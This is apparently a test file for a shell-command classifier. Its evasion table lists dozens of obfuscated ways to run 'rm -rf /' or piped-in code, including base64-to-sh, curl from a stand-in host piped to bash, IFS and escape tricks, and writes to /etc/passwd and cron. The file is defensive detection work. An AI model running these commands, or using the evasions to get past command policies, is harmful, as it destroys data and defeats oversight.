import { classifyShell } from './shell-classify';

interface Case {
  input: string | string[];
  /** programs of every flattened command, in execution order */
  programs: string[];
  dynamic: boolean;
  /** argv of the command whose program is `rm` (or the last command if none is rm) */
  argv?: string[];
  via?: string[];
}

const RM = ['rm', '-rf', '/'];

// Each row is a way to hide `rm -rf /` (or code) from a text-matching policy.
const cases: [string, Case][] = [
  ['plain', { input: 'rm -rf /', programs: ['rm'], dynamic: false, argv: RM, via: [] }],
  [
    'sh -c chain',
    {
      input: "sh -c 'ls && rm -rf /; echo done'",
      programs: ['ls', 'rm', 'echo'],
      dynamic: false,
      argv: RM,
      via: ['sh -c'],
    },
  ],
  [
    'nested bash -c sh -c',
    { input: `bash -c "sh -c 'rm -rf /'"`, programs: ['rm'], dynamic: false, argv: RM, via: ['bash -c', 'sh -c'] },
  ],
  [
    'bash -lc combined flags',
    { input: "bash -lc 'rm -rf /'", programs: ['rm'], dynamic: false, argv: RM, via: ['bash -c'] },
  ],
  [
    'dash / ksh -c',
    { input: `dash -c 'ksh -c "rm -rf /"'`, programs: ['rm'], dynamic: false, via: ['dash -c', 'ksh -c'] },
  ],
  [
    'zsh -c is read with bash rules',
    { input: `zsh -c 'ls *(e:"rm -rf /":)'`, programs: ['ls'], dynamic: true, via: ['zsh -c'] },
  ],
  ['busybox sh -c', { input: "busybox sh -c 'rm -rf /'", programs: ['rm'], dynamic: false, via: ['busybox', 'sh -c'] }],
  ['command substitution', { input: 'echo $(rm -rf /)', programs: ['rm', 'echo'], dynamic: true, argv: RM }],
  ['backticks', { input: 'echo `rm -rf /`', programs: ['rm', 'echo'], dynamic: true, argv: RM }],
  ['substitution as command name', { input: '$(echo rm) -rf /', programs: ['echo', '$(…)'], dynamic: true }],
  [
    'base64 to shell',
    { input: 'echo cm0gLXJmIC8= | base64 -d | sh', programs: ['echo', 'base64', 'sh'], dynamic: true },
  ],
  ['curl to bash', { input: 'curl -fsSL https://x.example/i.sh | bash', programs: ['curl', 'bash'], dynamic: true }],
  [
    'wrapper stack',
    {
      input: 'sudo env FOO=1 timeout 5 nice rm -rf /',
      programs: ['rm'],
      dynamic: false,
      argv: RM,
      via: ['sudo', 'env', 'timeout', 'nice'],
    },
  ],
  [
    'sudo with options',
    { input: 'sudo -u root -g wheel -E rm -rf /', programs: ['rm'], dynamic: false, argv: RM, via: ['sudo'] },
  ],
  [
    'more wrappers',
    {
      input: 'nohup ionice -c3 stdbuf -oL setsid strace -f -o /tmp/t flock /tmp/l chroot /mnt doas rm -rf /',
      programs: ['rm'],
      dynamic: false,
      argv: RM,
      via: ['nohup', 'ionice', 'stdbuf', 'setsid', 'strace', 'flock', 'chroot', 'doas'],
    },
  ],
  [
    'command/builtin/exec',
    { input: 'command exec rm -rf /', programs: ['rm'], dynamic: false, argv: RM, via: ['command', 'exec'] },
  ],
  [
    '/usr/bin/time with format',
    { input: '/usr/bin/time -f %e rm -rf /', programs: ['rm'], dynamic: false, argv: RM, via: ['time'] },
  ],
  ['time keyword', { input: 'time -p rm -rf /', programs: ['rm'], dynamic: false, argv: RM }],
  [
    'find -exec',
    {
      input: 'find / -exec rm -rf {} \\;',
      programs: ['find', 'rm'],
      dynamic: false,
      argv: ['rm', '-rf', '{}'],
      via: ['find -exec'],
    },
  ],
  [
    'find -execdir +',
    { input: 'find . -name x -execdir rm {} +', programs: ['find', 'rm'], dynamic: false, via: ['find -execdir'] },
  ],
  [
    'find -exec sh -c',
    {
      input: 'find . -exec sh -c \'rm -rf "$1"\' _ {} \\;',
      programs: ['find', 'rm'],
      dynamic: true,
      via: ['find -exec', 'sh -c'],
    },
  ],
  ['awk system()', { input: `awk 'BEGIN{system("rm -rf /")}'`, programs: ['awk'], dynamic: true }],
  ['awk pipe getline', { input: `awk 'BEGIN{"id" | getline x}'`, programs: ['awk'], dynamic: true }],
  ['plain awk', { input: "awk '{print $1}' f", programs: ['awk'], dynamic: false }],
  ['xargs rm', { input: 'ls | xargs rm', programs: ['ls', 'rm'], dynamic: false, argv: ['rm'], via: ['xargs'] }],
  ['xargs sh', { input: 'ls | xargs sh', programs: ['ls', 'sh'], dynamic: true, via: ['xargs'] }],
  [
    'xargs -I sh -c',
    { input: "ls | xargs -I{} sh -c 'rm {}'", programs: ['ls', 'rm'], dynamic: true, via: ['xargs', 'sh -c'] },
  ],
  ['empty quotes inside', { input: "r''m -rf /", programs: ['rm'], dynamic: false, argv: RM }],
  ['double-quoted name', { input: '"rm" -rf /', programs: ['rm'], dynamic: false, argv: RM }],
  ['leading backslash', { input: '\\rm -rf /', programs: ['rm'], dynamic: false, argv: RM }],
  ['inner backslash', { input: 'r\\m -rf /', programs: ['rm'], dynamic: false, argv: RM }],
  ['ANSI-C hex', { input: "$'\\x72m' -rf /", programs: ['rm'], dynamic: false, argv: RM }],
  ['ANSI-C octal and NUL cut', { input: "$'\\162\\155\\x00junk' -rf /", programs: ['rm'], dynamic: false, argv: RM }],
  ['absolute path', { input: '/bin/rm -rf /', programs: ['rm'], dynamic: false, argv: ['/bin/rm', '-rf', '/'] }],
  ['brace expansion', { input: '{rm,-rf,/}', programs: ['rm'], dynamic: false, argv: RM }],
  ['${IFS}', { input: 'rm${IFS}-rf${IFS}/', programs: ['rm'], dynamic: true, argv: RM }],
  ['$IFS', { input: 'rm$IFS-rf$IFS/', programs: ['rm'], dynamic: true, argv: RM }],
  ['IFS reassigned', { input: 'IFS=,; c=rm,-rf,/; $c', programs: ['rm,-rf,'], dynamic: true }],
  ['variable as command', { input: '$CMD -rf /', programs: ['${CMD}'], dynamic: true }],
  ['variable assigned earlier', { input: 'c=rm; $c -rf /', programs: ['rm'], dynamic: true, argv: RM }],
  ['for loop over literal', { input: 'for c in ls rm; do $c -rf /; done', programs: ['ls', 'rm'], dynamic: true }],
  ['glob as command', { input: '/bin/r? -rf /', programs: ['r?'], dynamic: true }],
  [
    'here-doc to shell',
    { input: 'bash <<EOF\nrm -rf /\nEOF', programs: ['bash', 'rm'], dynamic: true, via: ['bash <<'] },
  ],
  ['here-string to shell', { input: "sh <<< 'rm -rf /'", programs: ['sh', 'rm'], dynamic: true }],
  [
    'here-doc substitution runs',
    { input: 'cat <<EOF\n$(rm -rf /)\nEOF', programs: ['rm', 'cat'], dynamic: false, argv: RM },
  ],
  ['quoted here-doc is text', { input: "cat <<'EOF'\n$(rm -rf /)\nEOF", programs: ['cat'], dynamic: false }],
  ['python -c', { input: 'python3 -c \'import os; os.system("rm -rf /")\'', programs: ['python3'], dynamic: true }],
  [
    'perl -e / ruby -e / node -e',
    { input: 'perl -e 1; ruby -e 1; node -e 1', programs: ['perl', 'ruby', 'node'], dynamic: true },
  ],
  ['python script file', { input: 'python3 manage.py migrate', programs: ['python3'], dynamic: false }],
  ['comment hides nothing', { input: 'ls # ; rm -rf /', programs: ['ls'], dynamic: false }],
  ['comment then newline', { input: 'ls # harmless\nrm -rf /', programs: ['ls', 'rm'], dynamic: false }],
  ['newline separated', { input: 'ls\nrm -rf /', programs: ['ls', 'rm'], dynamic: false }],
  ['semicolon without spaces', { input: 'ls;rm -rf /', programs: ['ls', 'rm'], dynamic: false }],
  [
    '&& || & and subshell/group',
    { input: 'true&&(false||{ rm -rf /; })&', programs: ['true', 'false', 'rm'], dynamic: false },
  ],
  [
    'if/while/case/function bodies',
    {
      input: 'if a; then b; elif c; then d; else e; fi; while f; do g; done; case x in y) h;; esac; fn() { i; }',
      programs: ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'],
      dynamic: false,
    },
  ],
  [
    'process substitution',
    { input: 'diff <(ls a) >(rm -rf /)', programs: ['ls', 'rm', 'diff'], dynamic: false, argv: RM },
  ],
  ['eval', { input: "eval 'rm -rf /'", programs: ['eval', 'rm'], dynamic: true, via: ['eval'] }],
  ['source', { input: 'source ./x.sh', programs: ['source'], dynamic: true }],
  [
    'ssh remote command',
    { input: "ssh -p 22 host 'rm -rf /'", programs: ['rm'], dynamic: false, argv: RM, via: ['ssh'] },
  ],
  ['su -c', { input: "su -c 'rm -rf /' root", programs: ['rm'], dynamic: false, via: ['su -c'] }],
  ['watch', { input: "watch -n 1 'rm -rf /'", programs: ['rm'], dynamic: false, via: ['watch'] }],
  ['parallel', { input: 'parallel rm ::: a b', programs: ['rm'], dynamic: true, via: ['parallel'] }],
  ['sh -c positional args', { input: "sh -c '$1 -rf /' sh rm", programs: ['rm'], dynamic: true, argv: RM }],
  ['dynamic sh -c program', { input: 'sh -c "$X"', programs: ['sh'], dynamic: true }],
  ['interactive shell', { input: 'bash', programs: ['bash'], dynamic: true }],
  ['sed e flag', { input: "sed 's/.*/rm -rf \\//e' f", programs: ['sed'], dynamic: true }],
  ['alias definition', { input: "alias ls='rm -rf /'", programs: ['alias', 'rm'], dynamic: true }],
  ['trap handler', { input: "trap 'rm -rf /' EXIT", programs: ['trap', 'rm'], dynamic: true }],
  ['prompt expansion', { input: 'echo ${x@P}', programs: ['echo'], dynamic: true }],
  ['assignment to PATH', { input: 'PATH=/tmp ls', programs: ['ls'], dynamic: true }],
  ['substitution in default value', { input: 'echo ${x:-$(rm -rf /)}', programs: ['rm', 'echo'], dynamic: true }],
  ['substitution in arithmetic', { input: 'echo $((1 + $(rm -rf /)))', programs: ['rm', 'echo'], dynamic: true }],
  ['substitution in [[ ]]', { input: '[[ -n $(rm -rf /) ]]', programs: ['rm'], dynamic: false }],
  ['substitution in assignment', { input: 'x=$(rm -rf /)', programs: ['rm'], dynamic: false }],
  [
    'kubectl exec argv',
    {
      input: ['/bin/sh', '-c', 'rm -rf / && echo ok'],
      programs: ['rm', 'echo'],
      dynamic: false,
      argv: RM,
      via: ['sh -c'],
    },
  ],
  [
    'kubectl exec argv, plain',
    { input: ['ls', '-la', '/tmp'], programs: ['ls'], dynamic: false, argv: ['ls', '-la', '/tmp'], via: [] },
  ],
  [
    'argv words are not re-parsed',
    {
      input: ['echo', '$(rm -rf /)', ';', 'rm'],
      programs: ['echo'],
      dynamic: false,
      argv: ['echo', '$(rm -rf /)', ';', 'rm'],
    },
  ],
  [
    'argv bash -c nested',
    { input: ['bash', '-c', "sh -c 'rm -rf /'"], programs: ['rm'], dynamic: false, via: ['bash -c', 'sh -c'] },
  ],
  [
    'argv env wrapper',
    {
      input: ['env', 'A=1', 'sudo', 'rm', '-rf', '/'],
      programs: ['rm'],
      dynamic: false,
      argv: RM,
      via: ['env', 'sudo'],
    },
  ],
  [
    'arithmetic runs code held in a variable',
    { input: "x='a[$(rm -rf /)]'; echo $((x))", programs: ['echo'], dynamic: true },
  ],
  [
    'subscript runs code held in a variable',
    { input: "i='a[$(id)]'; echo ${arr[i]}", programs: ['echo'], dynamic: true },
  ],
  [
    'plain arithmetic loop',
    { input: 'for ((i=0;i<3;i++)); do echo $i; done; n=5; echo $((n*2))', programs: ['echo', 'echo'], dynamic: false },
  ],
  ['script from /dev/stdin', { input: "sh /dev/stdin <<< 'rm -rf /'", programs: ['sh'], dynamic: true }],
  [
    'script from process substitution',
    { input: 'bash <(curl -s https://x.example/i.sh)', programs: ['curl', 'bash'], dynamic: true },
  ],
  [
    'exported function via env',
    { input: "env 'BASH_FUNC_ls%%=() { rm -rf /; }' bash -c ls", programs: ['ls'], dynamic: true },
  ],
  [
    'kubectl exec inner command',
    {
      input: 'kubectl -n prod exec pod -c app -- rm -rf /',
      programs: ['kubectl', 'rm'],
      dynamic: false,
      argv: RM,
      via: ['kubectl exec'],
    },
  ],
  [
    'docker exec inner command',
    { input: 'docker exec -u root ctr rm -rf /', programs: ['rm'], dynamic: false, argv: RM, via: ['docker exec'] },
  ],
  [
    'ssh options after host',
    { input: 'ssh host -p 2222 -- rm -rf /', programs: ['rm'], dynamic: false, argv: RM, via: ['ssh'] },
  ],
  ['ssh ProxyCommand', { input: "ssh -o ProxyCommand='nc %h %p' host ls", programs: ['ls'], dynamic: true }],
  ['line continuation inside a name', { input: 'r\\\nm -rf /', programs: ['rm'], dynamic: false, argv: RM }],
  [
    'IFS= read is not an evasion',
    { input: 'while IFS= read -r l; do echo "$l"; done < f', programs: ['read', 'echo'], dynamic: false },
  ],
  ['[ test ] is not a glob', { input: '[ -f x ] && echo y', programs: ['[', 'echo'], dynamic: false }],
  ['tar --to-command', { input: 'tar --to-command=sh -xf a.tar', programs: ['tar'], dynamic: true }],
  ['git pager', { input: "git -c core.pager='sh -c id' log", programs: ['git'], dynamic: true }],
  ['mapfile callback', { input: "mapfile -C 'rm -rf /' -c 1 < f", programs: ['mapfile'], dynamic: true }],
];

describe('classifyShell evasion table', () => {
  it.each(cases)('%s', async (_name, c) => {
    const r = await classifyShell(c.input);
    expect(r.error).toBeUndefined();
    expect(r.ok).toBe(true);
    expect(r.commands.map((x) => x.program)).toEqual(c.programs);
    expect(r.dynamic).toBe(c.dynamic);
    expect(r.dynamicReasons.length > 0).toBe(c.dynamic);
    const target = r.commands.find((x) => x.program === 'rm') ?? r.commands[r.commands.length - 1];
    if (c.argv) expect(target?.argv).toEqual(c.argv);
    if (c.via) expect(target?.via).toEqual(c.via);
  });

  it('has at least 30 evasion rows', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
  });
});

describe('classifyShell details', () => {
  it('marks words it cannot know as dynamicParts', async () => {
    const r = await classifyShell('rm -rf "$HOME"/*; ls | xargs rm; rm -rf /tmp/x');
    expect(r.commands.map((c) => [c.program, c.dynamicParts])).toEqual([
      ['rm', true],
      ['ls', false],
      ['rm', true],
      ['rm', false],
    ]);
    expect(r.commands[0]?.argv).toEqual(['rm', '-rf', '${HOME}/*']);
  });

  it('records file writes with fd and target, not fd duplication', async () => {
    const r = await classifyShell(
      'echo a > /etc/passwd 2>/dev/null; echo b >>log 2>&1; echo c &> out; echo d >| f; echo e <in',
    );
    expect(r.redirects).toEqual([
      { op: '>', target: '/etc/passwd' },
      { op: '2>', target: '/dev/null' },
      { op: '>>', target: 'log' },
      { op: '&>', target: 'out' },
      { op: '>|', target: 'f' },
    ]);
  });

  it('records writes inside nested shells', async () => {
    const r = await classifyShell(`sh -c 'echo x > "/etc/cron.d/evil"'`);
    expect(r.redirects).toEqual([{ op: '>', target: '/etc/cron.d/evil' }]);
  });

  it.each([
    ['unterminated quote', 'echo "abc'],
    ['unterminated substitution', 'echo $(ls'],
    ['stray case terminator', 'ls ;;'],
    ['unbalanced paren', 'ls )'],
    ['bad parameter', 'echo ${'],
    ['missing fi', 'if true; then ls'],
    ['NUL byte', 'ls\0rm'],
    ['ambiguous (( that bash reads as nested subshells', '((rm -rf /) )'],
    ['nested unparseable sh -c', "sh -c 'echo \"x'"],
  ])('refuses %s', async (_n, input) => {
    const r = await classifyShell(input);
    expect(r.ok).toBe(false);
    expect(r.error).toEqual(expect.any(String));
    expect(r.commands).toEqual([]);
  });

  it('refuses oversized input, runaway nesting and brace bombs', async () => {
    expect((await classifyShell(`echo ${'a'.repeat(70 * 1024)}`)).ok).toBe(false);
    let nested = 'rm -rf /';
    for (let k = 0; k < 10; k++) nested = `sh -c ${JSON.stringify(nested)}`;
    expect((await classifyShell(nested)).error).toMatch(/nested too deeply/);
    expect((await classifyShell('echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}')).ok).toBe(false);
  });

  it.each([
    ['deeply nested substitutions', `echo ${'$('.repeat(100)}ls${')'.repeat(100)}`, /nested too deeply/],
    ['deeply nested subshells', `${'( '.repeat(100)}ls${' )'.repeat(100)}`, /nested too deeply/],
    ['too many statements', 'a;'.repeat(5000), /too complex/],
    ['too many words', `echo ${'a '.repeat(5000)}`, /too complex/],
  ])('refuses %s quickly', async (_n, input, msg) => {
    const started = Date.now();
    const r = await classifyShell(input);
    expect(r.ok).toBe(false);
    expect(r.error).toMatch(msg);
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it('refuses an empty argv or one with NUL', async () => {
    expect((await classifyShell([])).ok).toBe(false);
    expect((await classifyShell(['ls', 'a\0b'])).ok).toBe(false);
  });

  it('treats an empty line as no commands', async () => {
    const r = await classifyShell('  # only a comment\n');
    expect(r).toMatchObject({ ok: true, commands: [], dynamic: false });
  });

  it('gives the same fingerprint for equivalent spellings and different ones otherwise', async () => {
    const fp = async (s: string | string[]): Promise<string> => (await classifyShell(s)).fingerprint;
    const base = await fp('rm -rf /tmp/x');
    expect(base).toMatch(/^[0-9a-f]{64}$/);
    expect(await fp('  \'rm\'   "-rf" /tmp/x  # comment')).toBe(base);
    expect(await fp('r\\m -r""f /tmp/$\'x\'')).toBe(base);
    expect(await fp(['rm', '-rf', '/tmp/x'])).toBe(base);
    expect(await fp('rm -rf /tmp/y')).not.toBe(base);
    expect(await fp('a && b')).not.toBe(await fp('a || b'));
    expect(await fp('echo $(a)')).not.toBe(await fp('echo $(b)'));
    expect(await fp('echo $( a   -l )')).toBe(await fp('echo $(a -l)'));
  });
});
